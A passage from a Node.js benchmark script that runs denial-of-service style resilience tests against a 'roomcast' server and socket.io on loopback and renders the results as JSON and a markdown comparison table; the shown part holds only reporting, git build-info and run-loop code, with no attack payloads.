      parts.push(`${count(c.framesInAttack)} frames queued for the client that never read (read after the attack${c.closeFrame ? ", down to the close frame" : ", 3 s"})`);
  } else if (conns.length > 1) {
    const codes = [...new Set(closed.map((c) => closeDetail(c).replace(/^: /, "")))].filter(Boolean);
    const times = closed.map((c) => c.serverClosedAt);
    if (closed.length)
      parts.push(`${closed.length}/${conns.length} closed by server (${sec(Math.min(...times))}–${sec(Math.max(...times))})${codes.length ? `: ${codes.join("; ")}` : ""}`);
    else parts.push(`0/${conns.length} closed by server`);
    const answered = conns.filter((c) => c.firstResponse && !c.serverClosedAt);
    if (answered.length) parts.push(`${answered.length} answered ${[...new Set(answered.map((c) => c.firstResponse.status))].join("/")}`);
  }
  if (r.sessions && r.sessions.peak > r.sessions.atBaseline) parts.push(`sessions: ${r.sessions.atBaseline} → peak ${count(r.sessions.peak)}`);
  else if (r.sessions?.firstDropAt !== undefined) parts.push(`session closed at ${sec(r.sessions.firstDropAt)}`);
  parts.push(`peak heap ${signedMB(r.peak.heapDelta)}, RSS ${signedMB(r.peak.rssDelta)}`);
  if (r.heldDelta) parts.push(`held after GC ${signedMB(r.heldDelta.heapUsed)} heap`);
  return parts.join("; ");
}

/** Engine.IO's heartbeat closes a session that answers no ping pingInterval + pingTimeout (45 s) after its handshake. */
const HEARTBEAT_MS = 45_000;
const heartbeat = (c) => c.closeFrame?.code === 1005 && c.closeFrame.at - c.openedAt >= HEARTBEAT_MS - 1500;

function closeDetail(c) {
  if (c.closeFrame)
    return `: close ${c.closeFrame.code}${c.closeFrame.reason ? ` "${c.closeFrame.reason}"` : ""}${heartbeat(c) ? " (Engine.IO heartbeat timeout, not a limit)" : ""}`;
  if (c.firstResponse) return `: HTTP ${c.firstResponse.status}`;
  if (c.error) return `: TCP ${c.error.code}`;
  if (c.endAt !== undefined) return ": TCP FIN, no close frame";
  return ": TCP closed";
}

function responsesDetail(c) {
  const r = Object.entries(c.responses ?? {}).map(([s, n]) => `${count(n)}×${s}`);
  return r.length ? ` (responses read: ${r.join(", ")})` : "";
}

function versionsLine(results) {
  const rc = results.find((r) => r.impl === "roomcast");
  const sio = results.find((r) => r.impl === "socketio");
  const out = [];
  if (rc) out.push(`roomcast: ${rc.build?.dir ?? rc.versions.roomcast}${rc.build?.commit ? ` @ ${rc.build.commit}${rc.build.dirty ? " (+ uncommitted changes)" : ""}` : ""} (engine.io ${rc.versions.engineio}, roomcast's WebSocket engine)`);
  if (sio) out.push(`socket.io ${sio.versions.socketio} (engine.io ${sio.versions.engineio}, ws ${sio.versions.ws})`);
  return out.join(" · ");
}

function markdown(doc) {
  const results = doc.results;
  const lines = [];
  lines.push(`# Attacks: roomcast vs socket.io`, "");
  lines.push(`${doc.meta.date} · Node ${doc.meta.node} · ${doc.meta.cpus} cores · loopback · default server options (bench/server.mjs's)`);
  lines.push("");
  lines.push(versionsLine(results));
  const r0 = results[0];
  if (r0) {
    lines.push("");
    lines.push(
      `Budget per attack: ${MB(r0.budget.bytes)} sent or ${r0.budget.seconds} s; RSS cap ${r0.budget.rssCapMB} MB (server killed); ` +
        `server heap cap ${r0.budget.heapMB ? `${r0.budget.heapMB} MiB` : "Node's default"} (--max-old-space-size). MB = 10^6 bytes. ` +
        `Peaks are over the baseline taken after GC with the attacker's sessions open; samples every ${doc.meta.sampleMs} ms without GC. ` +
        `"held after GC": heap after GC at the end, attacking connections still open.`,
    );
  }
  lines.push("");
  lines.push("| attack | roomcast | socket.io |");
  lines.push("| --- | --- | --- |");
  const names = [...new Set(results.map((r) => r.attack))];
  for (const name of names) {
    const a = ATTACKS.find((x) => x.name === name);
    const rc = results.find((r) => r.attack === name && r.impl === "roomcast");
    const sio = results.find((r) => r.attack === name && r.impl === "socketio");
    lines.push(`| **${name}**: ${a?.title ?? ""} | ${cell(rc)} | ${cell(sio)} |`);
  }
  lines.push(
    "",
    "Reading the cells: *sent* is what the attacker handed to its kernel (the server may have read less before it closed " +
      "the connection); times are from the start of the attack (sessions are set up before it); *closed by server* is when " +
      "the attacker saw the server's close frame, FIN or reset (for a client that never reads, the close frame is found by " +
      "reading what was queued once the attack is over); *session closed* is the first sample in which the server had fewer " +
      "Engine.IO sessions than at the baseline. Engine.IO's heartbeat (pingInterval 25 s + pingTimeout 20 s) closes a " +
      "session whose client cannot answer pings (mid-frame, mid-body) 45 s after its handshake, with an empty close frame " +
      "(1005): that is not a limit on the attack.",
  );
  const notes = results.filter((r) => r.notes?.length || r.failure || r.stderrTail);
  if (notes.length) {
    lines.push("", "Notes:");
    for (const r of notes) {
      const n = [...(r.notes ?? [])];
      if (r.failure) n.push(`failure: ${r.failure}`);
      if (r.stderrTail) n.push(`server stderr: ${r.stderrTail.replace(/\n/g, " / ")}`);
      lines.push(`- ${r.attack} / ${LABEL[r.impl]}: ${n.join("; ")}`);
    }
  }
  return lines.join("\n") + "\n";
}

function buildInfo(distDir) {
  const dir = resolve(distDir, "..");
  try {
    const commit = execFileSync("git", ["-C", dir, "rev-parse", "--short", "HEAD"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim();
    const dirty = execFileSync("git", ["-C", dir, "status", "--porcelain", "--", "server", "shared"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim() !== "";
    return { dir: distDir, commit, dirty };
  } catch {
    return { dir: distDir };
  }
}

// ---- main -----------------------------------------------------------------------------------------------------------

const jsonPath = join(OUT_DIR, "attacks.json");
const mdPath = join(OUT_DIR, "attacks.md");

if (args.includes("--list")) {
  for (const a of ATTACKS) console.log(`${a.name.padEnd(26)} ${a.title}`);
  process.exit(0);
}
if (args.includes("--render")) {
  const doc = JSON.parse(readFileSync(jsonPath, "utf8"));
  const md = markdown(doc);
  writeFileSync(mdPath, md);
  console.log(md);
  process.exit(0);
}

const ONLY = flag("only", "").split(",").filter(Boolean);
for (const n of ONLY) if (!ATTACKS.some((a) => a.name === n)) usage(`unknown attack ${n} (--list shows them)`);
const selected = ATTACKS.filter((a) => ONLY.length === 0 || ONLY.includes(a.name));
const DIST = IMPLS.includes("roomcast") ? distDirOf(flag("roomcast-dir", join(here, ".."))) : undefined;
if (IMPLS.includes("roomcast") && !DIST) usage(`no roomcast build (server/index.js) in ${flag("roomcast-dir", join(here, ".."))} or its dist/`);
const build = DIST ? buildInfo(DIST) : undefined;

const results = [];
for (const attack of selected) {
  for (const impl of IMPLS) {
    process.stderr.write(`${attack.name} / ${LABEL[impl]} … `);
    const row = await runOne(attack, impl, DIST);
    if (impl === "roomcast") row.build = build;
    results.push(row);
    process.stderr.write(`${row.stopReason}${row.died ? `, ${row.died.reason}` : ""} (${sec(row.durationMs)})\n`);
    await sleep(500);
  }
}

const meta = {
  date: new Date().toISOString(),
  node: process.version,
  cpus: cpus().length,
  totalMemMB: Math.round(totalmem() / 2 ** 20),
  loadavg: loadavg(),
  sampleMs: SAMPLE_MS,
  args,
};
let doc = { meta, results };
if (args.includes("--merge") && existsSync(jsonPath)) {
  const old = JSON.parse(readFileSync(jsonPath, "utf8"));
  const kept = old.results.filter((o) => !results.some((r) => r.attack === o.attack && r.impl === o.impl));
  const order = ATTACKS.map((a) => a.name);
  const all = [...kept, ...results].sort((a, b) => order.indexOf(a.attack) - order.indexOf(b.attack) || a.impl.localeCompare(b.impl));
  doc = { meta: { ...meta, merged: true }, results: all };
}
const md = markdown(doc);
console.log(md);
if (!args.includes("--no-save")) {
  mkdirSync(OUT_DIR, { recursive: true });
  writeFileSync(jsonPath, JSON.stringify(doc, null, 1));
  writeFileSync(mdPath, md);
  process.stderr.write(`wrote ${jsonPath} and ${mdPath}\n`);
}
